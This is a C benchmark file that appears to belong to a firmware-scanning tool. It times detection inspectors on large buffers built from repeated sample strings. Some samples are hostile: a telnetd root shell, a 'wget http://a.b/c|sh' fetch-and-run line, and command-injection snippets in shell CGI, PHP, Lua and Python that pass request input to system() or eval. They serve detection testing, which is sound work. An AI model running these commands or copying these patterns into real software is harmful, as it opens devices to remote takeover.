/* SPDX-License-Identifier: GPL-3.0-or-later */
/* What the inspectors cost beside the one scan, on files made to be as expensive as may be: a piece of text that comes again
 * and again. Processor time; of the inspectors only those are named that cost more than a tenth of the scan.
 *
 *   bench_inspect [MIB [NAME]]       the files below, of that size (16), or the one of that name only
 *   bench_inspect -f FILE [PATH]     that file, as if it stood at PATH
 */
#include <stdio.h>
#include <stdlib.h>

#include "base/buf.h"
#include "bench.h"
#include "probe/scan.h"
#include "probe/tree.h"

static const struct {
	const char *name, *path, *unit;
} files[] = {
	{ "addresses", "/etc/x", "1.1.1.1 " },
	{ "names", "/etc/x", "a.com," },
	{ "names-data", "x.bin", "a.com,\x01" },
	{ "labels", "/etc/x", "a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.com" },
	{ "urls", "/www/x.js", "http://a.b/" },
	{ "schemes", "/www/x.js", "://" },
	{ "addresses6", "/etc/x", "fe80::1 " },
	{ "passwords", "/etc/x.conf", "password=Xy7aab3k\n" },
	{ "passwords-line", "/etc/x.conf", "password=Xy7aab3k;" },
	{ "passwords-js", "/www/x.js", "var password=\"Xy7aab3k\";" },
	{ "tokens", "/etc/x", "AKIAIOSFODNN7EXAMPLX " },
	{ "jwt", "/etc/x", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0." },
	{ "urls-user", "/etc/x.conf", "http://user:secret@host/ " },
	{ "pem", "/etc/x.pem", "-----BEGIN RSA PRIVATE KEY-----\n" },
	{ "pem-pairs", "/etc/x.pem", "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" },
	{ "der", "x.bin", "\x30\x82\x02\x5c\x02\x01\x01\x02\x81" },
	{ "shell-words", "/etc/init.d/rcS", "#!/bin/sh\ntelnetd -l /bin/sh &\n" },
	{ "shell-semicolons", "/etc/init.d/rcS", "telnetd;wget http://a.b/c|sh;" },
	{ "shell-quotes", "/sbin/x.sh", "#!/bin/sh\neval \"$(echo \"$QUERY_STRING\")\"\n" },
	{ "shell-nesting", "/sbin/x.sh", "$(`if (( {" },
	{ "shell-heredoc", "/sbin/x.sh", "cat <<EOF\n" },
	{ "shell-cgi", "/www/cgi-bin/x.cgi", "#!/bin/sh\na=$QUERY_STRING;b=$a;eval $b\n" },
	{ "shell-functions", "/www/cgi-bin/x.cgi", "f(){ g $1; };g(){ f $QUERY_STRING; };" },
	{ "php", "/www/x.php", "<?php $a=$_GET['a'];system($a);" },
	{ "php-functions", "/www/x.php", "<?php function f($a){return g($a);} f($_GET['a']);" },
	{ "php-parentheses", "/www/x.php", "<?php ((((((((system($_GET[" },
	{ "lua", "/usr/lib/lua/x.lua", "local a=luci.http.formvalue('a') os.execute('x'..a)\n" },
	{ "python", "/usr/lib/x.py", "import os\nos.system(input())\n" },
	{ "perl", "/www/x.pl", "#!/usr/bin/perl\nmy $a=param('a');system($a);\n" },
	{ "sshd", "/etc/ssh/sshd_config", "PermitRootLogin yes\n" },
	{ "sshd-match", "/etc/ssh/sshd_config", "Match User a\n" },
	{ "nginx-nesting", "/etc/nginx/nginx.conf", "http { server { listen 1;" },
	{ "nginx", "/etc/nginx/nginx.conf", "listen 80;" },
	{ "lighttpd", "/etc/lighttpd/lighttpd.conf", "server.port = 80\n" },
	{ "apache-nesting", "/etc/apache2/apache2.conf", "<Directory />\n" },
	{ "uci", "/etc/config/network", "config a\n\toption b 'c'\n" },
	{ "uci-words", "/etc/config/wireless", "option key 'abcdefgh'\n" },
	{ "nvram", "/etc/nvram.default", "wl0_wpa_psk=abcdefgh\n" },
	{ "xml", "/etc/default.xml", "<Password>abc</Password>" },
	{ "xml-nesting", "/etc/default.xml", "<Password>" },
	{ "ini", "/etc/php/php.ini", "[a]\nallow_url_fopen=On\n" },
	{ "passwd", "/etc/passwd", "a:$1$abcdefgh$abcdefghijklmnopqrstu/:0:0::/:/bin/sh\n" },
	{ "authorized", "/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2E a\n" },
	{ "inittab", "/etc/inittab", "::respawn:/sbin/getty\n" },
	{ "unit", "/lib/systemd/system/x.service", "[Service]\nExecStart=/bin/a\n" },
	{ "unit-words", "/lib/systemd/system/x.service", "ExecStart=/bin/a " },
	{ "crontab", "/etc/crontab", "* * * * * root /bin/a\n" },
	{ "kernel-config", "/boot/config-5.10", "CONFIG_STACKPROTECTOR=y\n" },
	{ "kernel-ikconfig", "x.bin", "IKCFG_ST\x1f\x8b\x08" },
	{ "kernel-version", "x.bin", "Linux version 5.10.1 (a@b) (gcc) #1 SMP\n" },
	{ "sysctl", "/etc/sysctl.conf", "net.ipv4.ip_forward=1\n" },
	{ "mtdparts", "x.bin", "mtdparts=a:1k(b),1k(c) " },
	{ "mtdparts-long", "x.bin", "mtdparts=a:1k(b),1k(c),mtdparts=a:1k(b)," },
	{ "u-boot", "x.bin", "U-Boot 2015.04 (Jan 01 2015)" },
	{ "environment", "x.bin", "bootdelay=0" },
	{ "bootcmd", "x.bin", "bootcmd=run a; bootargs=console=ttyS0 " },
	{ "banners", "x.bin", "BusyBox v1.30.1 OpenSSL 1.0.2k dropbear_2019.78 " },
	{ "dpkg", "/var/lib/dpkg/status", "Package: a\nStatus: install ok installed\nVersion: 1\n\n" },
	{ "opkg", "/usr/lib/opkg/status", "Package: a\nVersion: 1\n" },
	{ "crontab-update", "/etc/crontabs/root", "0 3 * * * opkg update; wget http://a.b/c; sysupgrade c\n" },
	{ "flash", "/sbin/up.sh", "#!/bin/sh\nwget http://a.b/c; mtd write c firmware; sysupgrade c\n" },
	{ "sql", "x.bin", "CREATE TABLE a (b TEXT, c TEXT);" },
	{ "sql-open", "x.bin", "CREATE TABLE a (" },
	{ "json", "/data/x.json", "{\"a\":" },
	{ "vcard", "/data/x.vcf", "BEGIN:VCARD\nTEL:1\nEND:VCARD\n" },
	{ "upnp", "/www/x.xml", "<deviceType>urn:schemas-upnp-org:device:a:1</deviceType>" },
	{ "mdns", "x.bin", "_http._tcp.local " },
	{ "ntp", "/etc/ntp.conf", "server pool.ntp.org\n" },
	{ "ntp-data", "x.bin", "pool.ntp.org time.windows.com /dev/rtc0 " },
	{ "signatures", "/lib/modules/x.ko", "~Module signature appended~\n" },
	{ "usign", "/etc/x.sig", "untrusted comment: a\nRWQ\n" },
	{ "at-commands", "x.bin", "AT+CGDCONT=1,\"IP\",\"internet\"\r\n" },
	{ "esp", "x.bin", "\xe9\x02\x02\x20" },
	{ "zeros", "x.bin", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
	{ "words", "/etc/x.conf", "a b c " },
	{ "lines", "/etc/x.conf", "\n" },
	{ "lines-shell", "/sbin/x.sh", "a\n" },
};

struct bench {
	struct scanner_lane *lane;
	struct arena *kept, *scratch;
};

/* Scans and inspects once, and prints a line. */
static bool measure(struct bench *b, const char *name, const char *path, struct span bytes)
{
	struct scan_result r;
	struct fact_list list;
	double start = thread_seconds();
	struct error e = scan_blob(b->lane, bytes, b->kept, NULL, &r);
	double scan = thread_seconds() - start, all = 0;
	if (error_is(&e))
		return false;
	char costly[512] = "";
	size_t n = 0;
	fact_list_init(&list, b->kept);
	struct subject s = { .bytes = bytes,
						 .path = text_c(path),
						 .kind = ENTRY_FILE,
						 .mode = 0755,
						 .uid = 0,
						 .gid = 0,
						 .format = classify(bytes),
						 .arena = b->scratch };
	for (size_t i = 0; inspector_registry[i]; i++) {
		const struct inspector *inspector = inspector_registry[i];
		s.hits = r.hits[i].v;
		s.nhits = r.hits[i].n;
		start = thread_seconds();
		if (inspector->wants(&s))
			inspector->run(&s, &list.sink);
		double cost = thread_seconds() - start;
		arena_reset(b->scratch);
		all += cost;
		if (cost > scan / 10 && n < sizeof costly - 32)
			n +=
				(size_t)snprintf(costly + n, sizeof costly - n, " %s %.0f (%zu)", inspector->name, cost * 1e3, s.nhits);
	}
	double ns = 1e9 / (double)bytes.n;
	printf("%-18s %6.1f MB: scan %6.2f ns/byte, inspectors %7.2f ns/byte; ms (hits):%s\n", name, (double)bytes.n / 1e6,
		   scan * ns, all * ns, costly);
	fflush(stdout);
	arena_reset(b->kept);
	return true;
}

static bool measure_repeated(struct bench *b, size_t i, size_t n)
{
	uint8_t *p = malloc(n);
	size_t unit = strlen(files[i].unit);
	if (!p)
		return false;
	for (size_t at = 0; at < n; at++)
		p[at] = (uint8_t)files[i].unit[at % unit];
	bool ok = measure(b, files[i].name, files[i].path, span_of(p, n));
	free(p);
	return ok;
}

static bool measure_file(struct bench *b, const char *name, const char *path)
{
	FILE *f = fopen(name, "rb");
	long n = f && fseek(f, 0, SEEK_END) == 0 ? ftell(f) : -1;
	uint8_t *p = n > 0 ? malloc((size_t)n) : NULL;
	bool ok = p && fseek(f, 0, SEEK_SET) == 0 && fread(p, (size_t)n, 1, f) == 1 &&
			  measure(b, name, path, span_of(p, (size_t)n));
	free(p);
	if (f)
		fclose(f);
	return ok;
}

int main(int argc, char **argv)
{
	struct error e;
	struct scanner *scanner = scanner_new(PATTERNS_ALL, &e);
	struct bench b = { scanner ? scanner_lane_new(scanner) : NULL, arena_new(0), arena_new(0) };
	bool ok = b.lane && b.kept && b.scratch;
	if (ok && argc > 2 && strcmp(argv[1], "-f") == 0) {
		ok = measure_file(&b, argv[2], argc > 3 ? argv[3] : argv[2]);
	} else {
		size_t n = (argc > 1 ? strtoul(argv[1], NULL, 10) : 16) << 20;
		for (size_t i = 0; ok && i < sizeof files / sizeof files[0]; i++)
			if (argc < 3 || strcmp(argv[2], files[i].name) == 0)
				ok = measure_repeated(&b, i, n);
	}
	arena_free(b.kept);
	arena_free(b.scratch);
	scanner_lane_free(b.lane);
	scanner_free(scanner);
	return ok ? 0 : 1;
}
